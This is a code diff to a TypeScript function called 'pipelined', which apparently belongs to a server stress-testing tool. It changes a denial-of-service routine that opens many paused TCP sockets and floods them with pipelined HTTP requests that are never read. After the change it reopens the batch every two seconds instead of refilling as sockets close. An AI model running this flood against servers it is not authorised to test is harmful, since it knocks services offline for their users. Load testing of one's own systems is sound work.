@@ -1,5 +1,5 @@
 import { Agent } from 'node:http';
-import { connect, type Socket } from 'node:net';
+import { connect } from 'node:net';
 import { SCENES } from '../contract/illustrations.ts';
 import { ask } from './ask.ts';
 
@@ -86,25 +86,19 @@ interface PipelinedOptions {
   path(url: string): string | Promise<string>;
 }
 
-/** Connections that send many requests at once without Accept-Encoding and read nothing; those that are cut come back. */
+/** Connections that send many requests at once without Accept-Encoding and read nothing; every two seconds they begin again. */
 function pipelined({ connections, requests, method = 'GET', path }: PipelinedOptions): Attack {
   return async (url, isOver) => {
     const { hostname, port } = new URL(url);
     const bytes = `${method} ${await path(url)} HTTP/1.1\r\nHost: x\r\n\r\n`.repeat(requests);
-    const sockets = new Set<Socket>();
     let opened = 0;
     while (!isOver()) {
-      while (sockets.size < connections) {
-        const socket = connect(Number(port), hostname).pause();
-        socket.on('error', () => {});
-        socket.once('close', () => sockets.delete(socket));
-        socket.write(bytes);
-        sockets.add(socket);
-        opened++;
-      }
-      await new Promise((resolve) => setTimeout(resolve, 100));
+      const sockets = Array.from({ length: connections }, () => connect(Number(port), hostname).pause());
+      for (const socket of sockets) socket.on('error', () => {}).write(bytes);
+      opened += connections;
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+      for (const socket of sockets) socket.destroy();
     }
-    for (const socket of sockets) socket.destroy();
     return `${opened} connections`;
   };
 }
